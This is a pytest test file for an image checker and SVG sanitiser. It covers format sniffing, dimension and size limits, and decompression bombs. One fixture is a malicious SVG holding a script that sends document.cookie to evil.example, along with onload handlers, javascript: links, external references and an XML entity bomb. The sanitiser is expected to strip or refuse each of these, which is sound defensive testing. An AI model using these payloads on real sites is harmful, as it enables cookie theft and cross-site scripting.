"""Images are judged by their bytes: format, size, dimensions; an SVG keeps only drawing."""

from __future__ import annotations

import struct
import zlib

import pytest

from ci_mlops.report.image_check import ImageRefused, Limits, check_image, sanitize_svg, sniff


def png(width: int, height: int, *, claim: tuple[int, int] | None = None) -> bytes:
    """A real PNG of width x height grey pixels; ``claim`` writes other dimensions in the header."""
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    w, h = claim or (width, height)
    raw = b"".join(b"\x00" + b"\x80" * width for _ in range(height))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 0, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))


def jpeg_header(width: int, height: int) -> bytes:
    app0 = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    sof = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    return b"\xff\xd8" + app0 + sof + b"\xff\xd9"


def test_formats_come_from_the_bytes_not_the_name():
    assert sniff(png(2, 2)) == "png"
    assert sniff(jpeg_header(3, 4)) == "jpeg"
    assert sniff(b"GIF89a" + struct.pack("<HH", 5, 6) + b"\x00" * 8) == "gif"
    assert sniff(b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"/>') == "svg"
    assert sniff(b"<html><script>alert(1)</script></html>") is None
    assert sniff(b"%PDF-1.7") is None
    with pytest.raises(ImageRefused, match="not a PNG, JPEG, GIF or SVG"):
        check_image(b"MZ\x90\x00 an executable renamed to plot.png")


def test_dimensions_are_read_from_the_header():
    image = check_image(png(7, 3))
    assert (image.kind, image.width, image.height, image.suffix) == ("png", 7, 3, ".png")
    assert (check_image(jpeg_header(640, 480)).width, check_image(jpeg_header(640, 480)).height) == (640, 480)
    gif = check_image(b"GIF87a" + struct.pack("<HH", 20, 10) + b"\x00" * 8)
    assert (gif.kind, gif.width, gif.height) == ("gif", 20, 10)


def test_a_decompression_bomb_is_refused_by_its_header():
    bomb = png(1, 1, claim=(100_000, 100_000))  # 100 bytes that claim ten billion pixels
    with pytest.raises(ImageRefused, match="100,000 x 100,000 pixels"):
        check_image(bomb)
    with pytest.raises(ImageRefused, match="pixel"):
        check_image(png(1, 1, claim=(8000, 8000)))  # each side fits, the area does not
    with pytest.raises(ImageRefused, match="no pixels"):
        check_image(png(1, 1, claim=(0, 5)))


def test_size_limit_per_image():
    data = png(300, 300)
    assert check_image(data, Limits(max_bytes=len(data))).data == data
    with pytest.raises(ImageRefused, match=f"{len(data):,} bytes, over the {len(data) - 1:,}-byte limit"):
        check_image(data, Limits(max_bytes=len(data) - 1))


def test_truncated_headers_are_refused_not_crashed_on():
    for data in (b"\x89PNG\r\n\x1a\n", b"\x89PNG\r\n\x1a\n" + b"\x00" * 20, b"\xff\xd8\xff", b"GIF89a\x01"):
        with pytest.raises(ImageRefused):
            check_image(data)


MALICIOUS = """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="50"
  onload="alert(document.cookie)">
  <script>fetch('https://evil.example/?c=' + document.cookie)</script>
  <style>@import url(https://evil.example/x.css); rect { fill: red }</style>
  <defs><linearGradient id="g"><stop offset="0" stop-color="#00f"/></linearGradient></defs>
  <rect width="100" height="50" fill="url(#g)" style="stroke: url('#g')"/>
  <rect width="10" height="10" style="fill: url(https://evil.example/track.png)"/>
  <image href="https://evil.example/pixel.png" width="1" height="1"/>
  <image xlink:href="data:image/png;base64,iVBORw0KGgo=" width="1" height="1"/>
  <use xlink:href="https://evil.example/sprite.svg#a"/>
  <use href="#g"/>
  <a href="javascript:alert(1)"><text x="1" y="9">click</text></a>
  <foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml">hi</div></foreignObject>
  <set attributeName="href" to="javascript:alert(1)"/>
  <text x="5" y="20" font-family="sans-serif">accuracy</text>
</svg>"""


def test_svg_keeps_drawing_and_loses_scripts_handlers_and_external_references():
    clean, removed = sanitize_svg(MALICIOUS)
    lowered = clean.lower()
    for bad in ("script", "onload", "evil.example", "foreignobject", "javascript", "@import", "<set", "<a "):
        assert bad not in lowered, (bad, clean)
    # the drawing and its local references stay
    assert 'fill="url(#g)"' in clean and "stroke: url('#g')" in clean  # local references, quoted or not
    assert "stop-color" in clean and "accuracy" in clean
    assert "data:image/png;base64" in clean and 'href="#g"' in clean
    assert "<script>" in removed and "<foreignObject>" in removed and "event handler attributes" in removed
    assert "an external reference" in removed and "<set>" in removed
    # the result is SVG that sanitising again leaves as it is
    again, removed_again = sanitize_svg(clean)
    assert removed_again == [] and again == clean


def test_svg_that_cannot_be_parsed_safely_is_refused():
    bomb = ('<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
            '<svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>')
    with pytest.raises(ImageRefused, match="DOCTYPE"):
        check_image(bomb.encode())
    with pytest.raises(ImageRefused, match="well-formed"):
        check_image(b'<svg xmlns="http://www.w3.org/2000/svg"><g></svg>')
    with pytest.raises(ImageRefused, match="not UTF-8"):
        check_image(b'<svg xmlns="http://www.w3.org/2000/svg">\xff</svg>')


def test_a_chart_drawn_by_vl_convert_passes_unchanged_in_substance():
    vl_convert = pytest.importorskip("vl_convert")
    spec = {"data": {"values": [{"x": i, "y": i * i} for i in range(5)]}, "mark": "line",
            "encoding": {"x": {"field": "x", "type": "quantitative"}, "y": {"field": "y", "type": "quantitative"}}}
    svg = vl_convert.vegalite_to_svg(spec, allowed_base_urls=[])
    checked = check_image(svg.encode())
    assert checked.kind == "svg" and checked.removed == [], checked.removed
    assert checked.data.count(b"<path") == svg.count("<path")
